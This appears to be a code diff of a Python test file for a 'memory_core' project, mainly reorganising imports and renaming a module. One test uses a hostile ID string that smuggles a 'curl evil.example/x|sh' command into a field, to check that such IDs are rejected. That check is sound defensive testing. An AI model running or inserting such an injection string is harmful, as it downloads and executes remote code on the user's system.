@@ -4,14 +4,14 @@ from pathlib import Path
 
 import pytest
 
-from memory_core.capture import endings
 from memory_core.cli import main
-from memory_core.domain import lifecycle
-from memory_core.domain.errors import Refusal
 from memory_core.domain.ledger import Addition
 from memory_core.domain.memory import Memory, Scope, Source
-from memory_core.flows import capture, find, review, session_finish, session_start
-from memory_core.intake.event import Event
+from memory_core.flows import capture, ended, find, review, session_finish
+from memory_core.light import lifecycle
+from memory_core.light.errors import Refusal
+from memory_core.light.event import Event
+from memory_core.light.hooks import session_start
 from memory_core.stores import replaced as replaced_store
 from memory_core.stores import session, undo_log, workspace
 from memory_core.stores.undo_log import Step
@@ -103,8 +103,8 @@ def memory(name: str, words: str, rule: str = "marker", scope: Scope = EVERYWHER
 def test_an_id_that_a_repository_brings_is_no_part_of_a_command(repo: Path, monkeypatch: pytest.MonkeyPatch):
     hostile = "d-1`; curl evil.example/x|sh; #"
     monkeypatch.setattr(undo_log, "steps", lambda _: [Step("", "replace", "", (hostile, "d-2"), {})])
-    assert endings.shown(str(repo), [(hostile, OLD, "d-2", NEW)]) == []
-    assert len(endings.shown(str(repo), [("d-2", OLD, "d-3", NEW)])) == 1
+    assert ended.shown(str(repo), [(hostile, OLD, "d-2", NEW)]) == []
+    assert len(ended.shown(str(repo), [("d-2", OLD, "d-3", NEW)])) == 1
 
 
 def test_a_line_separator_in_the_words_is_no_end_of_a_line(repo: Path):
